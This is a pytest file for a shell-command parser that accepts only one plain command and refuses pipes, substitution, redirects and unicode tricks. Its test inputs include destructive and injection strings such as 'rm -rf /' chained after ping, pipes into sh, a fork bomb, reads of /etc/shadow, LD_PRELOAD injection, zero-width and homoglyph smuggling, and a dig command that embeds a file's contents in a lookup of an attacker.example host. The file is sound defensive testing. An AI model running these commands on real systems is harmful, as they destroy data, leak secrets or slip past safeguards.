"""parse_command: one simple command, argv exactly as bash would build it, everything else refused."""

from __future__ import annotations

import pytest

from netghost.shell.classify._parse import ParsedCommand, ParseRejection, parse_command


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("ping -c 4 10.0.0.4", ("ping", "-c", "4", "10.0.0.4")),
        ("  ping   -c 4  x  ", ("ping", "-c", "4", "x")),
        ("curl -s 'a b' \"c d\"", ("curl", "-s", "a b", "c d")),
        ("echo 'it'\"'\"'s'", ("echo", "it's")),
        ('curl -s "https://x/?q=\\$(id)"', ("curl", "-s", "https://x/?q=$(id)")),
        ('echo "a\\"b\\\\c\\n"', ("echo", 'a"b\\c\\n')),
        ("az vm list --query '[?tags.env==`prod`].name'", ("az", "vm", "list", "--query", "[?tags.env==`prod`].name")),
        ("dig +short '$(cat /etc/hostname).attacker.example'", ("dig", "+short", "$(cat /etc/hostname).attacker.example")),
        ("ping -c4 ''", ("ping", "-c4", "")),
        ('x --a="b c"d', ("x", "--a=b cd")),
    ],
)
def test_argv_is_what_bash_would_pass(command: str, argv: tuple[str, ...]) -> None:
    parsed = parse_command(command)
    assert isinstance(parsed, ParsedCommand), parsed
    assert parsed.argv == argv
    assert not parsed.unquoted_special


@pytest.mark.parametrize(
    "command",
    ["echo {a,b}", "rm -rf x~", "echo a\\ b", "echo \\x", "az vm list --query [*].{n:name}"],
)
def test_unquoted_brace_tilde_backslash_are_flagged(command: str) -> None:
    parsed = parse_command(command)
    assert isinstance(parsed, ParsedCommand)
    assert parsed.unquoted_special


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("ls x*", ("ls", "x*")),
        ("ping a?b", ("ping", "a?b")),
        ("ls [ab]", ("ls", "[ab]")),
        ("az vm list --query [].name", ("az", "vm", "list", "--query", "[].name")),
        ("az vm list --query [?name=='a'].id", ("az", "vm", "list", "--query", "[?name==a].id")),
    ],
)
def test_unquoted_glob_characters_are_literal_without_a_shell(command: str, argv: tuple[str, ...]) -> None:
    """No shell runs the command, so * ? [ ] reach the program as typed: nothing to flag."""
    parsed = parse_command(command)
    assert isinstance(parsed, ParsedCommand)
    assert parsed.argv == argv
    assert not parsed.unquoted_special


STRUCTURAL = [
    "rm -rf ~",
    "ping ~+",
    "ls foo=~/x",
    "ping -c 1 a; rm -rf /",
    "ping -c 1 a && curl x",
    "ping -c 1 a || curl x",
    "ss -tan | sh",
    "ping -c1 a|bash",
    "ping -c 1 a &",
    "ping $(id)",
    "ping `id`",
    'ping "$(id)"',
    'ping -c 1 "`id`"',
    "ping $HOME",
    "ping ${HOME}",
    'ping "$HOME"',
    "ping $((1+1))",
    "cat <(id)",
    "diff >(id) x",
    "ping x > /tmp/o",
    "ping x 2>&1",
    "ping x >> /etc/motd",
    "cat < /etc/shadow",
    "sh <<< 'id'",
    "cat <<EOF\nx\nEOF",
    "PAGER=sh git log",
    "LD_PRELOAD=/tmp/x.so ping x",
    "a=b",
    "(ping x)",
    "{ ping x; }",
    "! ping x",
    "if true; then id; fi",
    "for i in 1; do id; done",
    "while true; do id; done",
    "case x in x) id;; esac",
    "f() { id; }",
    ":(){ :|:& };:",
    "export A=1",
    "declare -x A=1",
    "local a=1",
    "unset PATH",
    "[ -f /etc/shadow ]",
    "[[ -f /etc/shadow ]]",
    "ping $'\\x72\\x6d'",
    'ping $"x"',
    "ping x # ; rm -rf /",
    "# just a comment",
    "ping x;",
]


@pytest.mark.parametrize("command", STRUCTURAL)
def test_structural_constructs_are_refused(command: str) -> None:
    parsed = parse_command(command)
    assert isinstance(parsed, ParseRejection), parsed
    assert parsed.error in ("not_a_single_command", "forbidden_command", "parse_error")
    assert any(advice in parsed.reason for advice in ("Send", "Retype", "single line", "write the path"))


@pytest.mark.parametrize(
    "command",
    ["\\rm -rf /", "r''m -rf /", "'rm' -rf /", '"ping" x', "/???/?m x", "$CMD x", "p\\ing x", "{rm,-rf,~}"],
)
def test_command_word_must_be_one_plain_word(command: str) -> None:
    parsed = parse_command(command)
    assert isinstance(parsed, ParseRejection)
    assert parsed.error in ("not_a_single_command", "parse_error")


@pytest.mark.parametrize(
    "command",
    [
        "ping -c 1 x\nrm -rf /",
        "ping -c 1 x\n",
        "ping\t-c 1 x",
        "ping -c 1 x\r",
        "ping -c 1 x\x00",
        "ping -c 1 x\x1b[2K",
        "r\u200bm -rf /",
        "ping -c 1 x\u200b",
        "\uff52\uff4d -rf /",
        "ping -c 1 x\uff1b rm -rf /",
        "ping -c 1 x\u2028rm",
        "ping -c 1 \u0445.example",
        "ping\u00a0-c 1 x",
        "ping -c 1 x\x7f",
        "ping -c 1 x\ufeff",
        "ping -c 1 x\u202e",
    ],
)
def test_non_printable_ascii_is_forbidden(command: str) -> None:
    parsed = parse_command(command)
    assert isinstance(parsed, ParseRejection)
    assert parsed.error == "forbidden_command"
    assert "U+" in parsed.reason


@pytest.mark.parametrize(
    "command",
    ["", "   ", "ping 'unterminated", 'ping "x', "ping x\\", "ping (", "ls )", "ping \\ 0", "ping ''\\a", "ping 'x'\\a", "ping ] ]", "ping ]  ]"],
)
def test_broken_or_empty_input_is_refused(command: str) -> None:
    assert isinstance(parse_command(command), ParseRejection)


def test_parsing_from_several_threads_agrees() -> None:
    import threading

    commands = ["ping -c 4 10.0.0.4", "az vm list --query '[].name'", "ls; rm -rf /", "curl -s 'https://x/?a=1'"] * 50
    expected = [parse_command(c) for c in commands]
    mismatches: list[str] = []

    def worker() -> None:
        mismatches.extend(c for c, e in zip(commands, expected, strict=True) if parse_command(c) != e)

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert mismatches == []
